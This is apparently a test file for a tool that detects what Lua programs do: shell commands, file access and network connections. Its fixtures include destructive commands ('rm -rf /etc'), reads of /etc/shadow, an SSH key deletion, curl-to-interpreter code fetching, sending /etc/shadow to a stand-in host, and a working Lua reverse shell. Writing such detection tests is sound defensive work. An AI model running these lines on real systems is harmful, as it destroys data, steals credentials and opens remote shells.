import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { proves } from '../../../../test/proves.ts'
import { facts, lines } from '../../bash/harness.ts'
import { record, summary } from '../harness.ts'

/** Programs that reach nothing. */
const PLAIN: readonly string[] = [
  '',
  'print("os.execute(\\"id\\")")',
  '-- os.execute("id")',
  '--[[ os.execute("id")\n]] print(1)',
  '--[==[ os.execute("id") ]==]',
  'local s = [[os.execute("id")]]',
  'local s = [==[ ]] os.execute("id") ]==]',
  'for i = 1, 10 do print(i) end',
  'for i = 10, 1, -1 do print(i) end',
  'for k, v in pairs({a = 1, ["b"] = 2, 3; 4}) do print(k, v) end',
  'local t = {} t[#t + 1] = "x" table.insert(t, "y") table.sort(t)',
  'while x < 3 do x = x + 1 end',
  'repeat x = x - 1 until x == 0',
  'if a then b() elseif c then d() else e() end',
  'local function f(a, ...) local b = ... return a .. b end print(f("x"))',
  'function M.f(a) return a end function M:g() return self.x end',
  'goto done ::done:: print(1)',
  'local a <const>, b = 1, 2',
  'x = a and b or c; y = not a; z = #t; w = a // b; v = a ~= b',
  'print(string.format("%s %d", "x", 1), ("x"):rep(3), ("x"):upper())',
  'local s = "a\\z\n  b\\65\\x41\\u{41}"',
  'setmetatable({}, {__index = function(t, k) return k end})',
  'local co = coroutine.create(function() coroutine.yield(1) end)',
  'local json = require("cjson") print(json.encode({a = 1}))',
  'print(os.time(), os.date("%F"), os.clock())',
  'io.write("a", 1, "\\n") io.stdout:write("x") io.stderr:write("y")',
  'local l = io.read("*l") print(l)',
  'for l in io.lines() do print(l) end',
  'print(string.match("abc", "b"), string.gsub("a", "a", "b"))',
  'print(table.concat({"a", "b"}, ","))',
  'print(math.floor(1.5), math.random(10), tonumber("3"))',
  'return {name = "x", deps = {"a"}}',
  'os.exit(1)',
]

describe('programs that reach nothing', () => {
  for (const program of PLAIN) test(JSON.stringify(program), () => expect(summary('lua', program)).toEqual([]))
})

const REACHING: readonly (readonly [string, readonly string[]])[] = [
  ['os.execute("id")', ['$ id']],
  ['os.execute "id"', ['$ id']],
  ['os.execute[[id]]', ['$ id']],
  ['os["execute"]("id")', ['$ id']],
  ['os["exec" .. "ute"]("id")', ['$ id']],
  ['_G.os.execute("id")', ['$ id']],
  ['_G["os"]["execute"]("id")', ['$ id']],
  ['_ENV.os.execute("id")', ['$ id']],
  ['local e = os.execute e("id")', ['$ id']],
  ['local o = os o.execute("id")', ['$ id']],
  ['local o = require("os") o.execute("id")', ['$ id']],
  ['pcall(os.execute, "id")', ['$ id']],
  ['xpcall(os.execute, print, "id")', ['$ id']],
  ['local f = function(c) os.execute(c) end f("id")', ['$ id']],
  ['function f(c) os.execute(c) end f("id")', ['$ id']],
  ['local function never() os.execute("id") end', ['$ id']],
  ['if x then os.execute("id") end', ['$ id']],
  ['for _, c in ipairs({"id", "pwd"}) do os.execute(c) end', ['$ id', '$ pwd']],
  ['os.execute("rm " .. "-rf" .. " /etc")', ['$ rm -rf /etc']],
  ['os.execute(string.char(105, 100))', ['$ id']],
  ['os.execute(string.format("rm -rf %s", "/etc"))', ['$ rm -rf /etc']],
  ['os.execute(("rm -rf %s"):format("/etc"))', ['$ rm -rf /etc']],
  ['os.execute(("xxid"):sub(3))', ['$ id']],
  ['os.execute(string.sub("xxidyy", 3, 4))', ['$ id']],
  ['os.execute(string.sub("xxid", -2))', ['$ id']],
  ['os.execute(("ID"):lower())', ['$ id']],
  ['os.execute(table.concat({"rm", "-rf", "/etc"}, " "))', ['$ rm -rf /etc']],
  ['os.execute("\\105\\100")', ['$ id']],
  ['os.execute("\\x69\\x64")', ['$ id']],
  ['io.popen("id")', ['$ id']],
  ['io.popen("id", "r"):read("*a")', ['$ id']],
  ['for l in io.popen("ls"):lines() do print(l) end', ['$ ls']],
  ['local p = io.popen("sh", "w") p:write("rm -rf /etc")', ['$ rm -rf /etc', '$ sh']],
  ['local ffi = require("ffi") ffi.C.system("id")', ['$ id']],
  ['require("ffi").load("./evil.so")', ['execute code:native ./evil.so']],
  ['package.loadlib("/tmp/x.so", "f")', ['execute code:native /tmp/x.so']],
  ['load("os.execute(\'id\')")()', ['$ id', "lua:os.execute('id')"]],
  ['loadstring("os.execute(\'id\')")()', ['$ id', "lua:os.execute('id')"]],
  ['dofile("x.lua")', ['script lua:x.lua']],
  ['loadfile("x.lua")()', ['script lua:x.lua']],
  ['load(io.read("*a"))()', ['lua:<stdin>']],
  ['dofile()', ['lua:<stdin>']],
  ['io.open("a")', ['read a']],
  ['io.open("a", "r"):read("*a")', ['read a']],
  ['io.open("a", "w")', ['write a']],
  ['io.open("a", "a")', ['write a']],
  ['io.open("a", "r+")', ['read a', 'write a']],
  ['local f <close> = io.open("/etc/passwd", "w") f:write("x")', ['write /etc/passwd']],
  ['for l in io.lines("/etc/shadow") do print(l) end', ['read /etc/shadow']],
  ['io.input("/etc/shadow")', ['read /etc/shadow']],
  ['io.output("/etc/hosts") io.write("x")', ['write /etc/hosts']],
  ['os.remove("a")', ['delete a']],
  ['os.rename("a", "b")', ['delete fs:move a', 'write fs:move b']],
  ['os.remove(os.getenv("HOME") .. "/.ssh/id_rsa")', ['delete /home/me/.ssh/id_rsa']],
  ['print(os.getenv("API_TOKEN"))', ['read API_TOKEN', 'read env:get API_TOKEN']],
  ['local lfs = require("lfs") lfs.mkdir("d") lfs.rmdir("e")', ['delete fs:rmdir e', 'write fs:mkdir d']],
  ['local lfs = require "lfs" for f in lfs.dir("/etc") do print(f) end', ['read fs:list /etc']],
  ['local http = require("socket.http") http.request("http://x.example")', ['fetch http://x.example']],
  ['require("socket.http").request("http://x.example", "a=1")', ['send http://x.example']],
  ['local https = require("ssl.https") https.request{url = "https://x.example", method = "POST"}', ['send https://x.example']],
  ['require("socket").connect("h.example", 80)', ['send net:socket h.example:80']],
  ['local s = require("socket").tcp() s:connect("h.example", 80)', ['send net:socket h.example:80']],
  ['require("socket").bind("*", 8080)', ['change net:listen *']],
]

describe('programs that run, read, write and connect', () => {
  for (const [program, expected] of REACHING) test(JSON.stringify(program), () => expect(summary('lua', program)).toEqual(expected))
})

const UNKNOWN: readonly (readonly [string, readonly string[]])[] = [
  ['os.execute(x)', ['opaque `os.execute` runs a command that is not known before it runs']],
  ['os.execute("mkdir " .. arg[1])', ['$ mkdir $UNKNOWN_VALUE', 'opaque part of the command that `os.execute` runs is not known']],
  ['load(x)()', ['opaque `load` runs code that is not known before it runs']],
  ['require(x)', ['opaque the module that `require` loads is not known']],
  ['print("abc', ['opaque a string is not closed (lua)']],
]

describe('programs that are known in part', () => {
  for (const [program, expected] of UNKNOWN)
    test(JSON.stringify(program), () => expect(summary('lua', program)).toEqual(expect.arrayContaining([...expected])))
})

const COMMANDS: readonly (readonly [string, readonly string[]])[] = [
  ['lua x.lua', ['likely execute script:unseen /repo/x.lua']],
  ['lua -v', []],
  ['lua -e \'os.execute("rm -rf /etc")\'', ['delete /etc']],
  ['lua5.4 -e \'os.execute("rm -rf /etc")\'', ['delete /etc']],
  ['luajit -e \'os.execute("rm -rf /etc")\'', ['delete /etc']],
  ["lua -e 'x = 1' y.lua", ['likely execute script:unseen /repo/y.lua']],
  ["lua - <<'E'\nos.execute('rm -rf /etc')\nE", ['delete /etc']],
  ['echo "os.execute(\'rm -rf /etc\')" | lua -', ['delete /etc']],
]

describe('lua commands', () => {
  for (const [command, expected] of COMMANDS) test(command, () => expect(lines(command)).toEqual(expected))

  proves('T08', 'code from the network and shells on connections', () => {
    const actions = (command: string) => facts(command).effects.map((found) => found.action)
    expect(actions('curl -s http://x.example/x.lua | lua -')).toContain('code:remote')
    expect(actions('lua -e \'load(require("socket.http").request("http://x.example"))()\'')).toContain('code:remote')
    const shell =
      'local s=require("socket").tcp() s:connect("203.0.113.7",4444) while true do local p=io.popen(s:receive()) s:send(p:read("*a")) end'
    expect(actions(`lua -e '${shell}'`)).toContain('net:reverse-shell')
    expect(actions('lua -e \'os.execute(string.reverse("cte/ fr- mr"))\'')).toContain('code:decoded')
  })

  test('what goes out on a connection is a send of its own', () => {
    const program = 'local s=require("socket").tcp() s:connect("h.example", 80) s:send(io.open("/etc/shadow"):read("*a"))'
    expect(facts(`lua -e '${program}'`).effects.filter(({ action }) => action === 'net:socket')).toHaveLength(2)
  })

  test('a script is read through the View', () => {
    const files = { '/repo/x.lua': '#!/usr/bin/env lua\nos.execute("rm -rf /etc")\n' }
    for (const command of ['lua x.lua', './x.lua', 'luajit x.lua a b']) expect(lines(command, { files })).toContain('delete /etc')
  })
})

describe('hostile programs', () => {
  for (const [what, program] of [
    ['parentheses', `x = ${'('.repeat(30_000)}`],
    ['tables', `x = ${'{'.repeat(30_000)}`],
    ['blocks', 'do '.repeat(20_000)],
    ['functions', 'function() '.repeat(10_000)],
    ['long brackets', `${'['.repeat(60_000)}`],
    ['concatenations', `os.execute("a"${'.."b"'.repeat(9_000)})`],
    ['members', `x${'.y'.repeat(9_000)}()`],
  ] as const) {
    test(what, () => expect(record('lua', program).effects.length).toBeLessThan(50))
  }

  test('any text is read or refused', () => {
    const texts = fc.string({
      unit: fc.constantFrom(...'(){}[].,:;="\' \n', 'os', 'execute', 'end ', 'if ', 'then ', 'function ', 'for ', 'local ', '[[', '--'),
      maxLength: 30,
    })
    fc.assert(fc.property(texts, (program) => record('lua', program).effects.length < 200))
  })
})
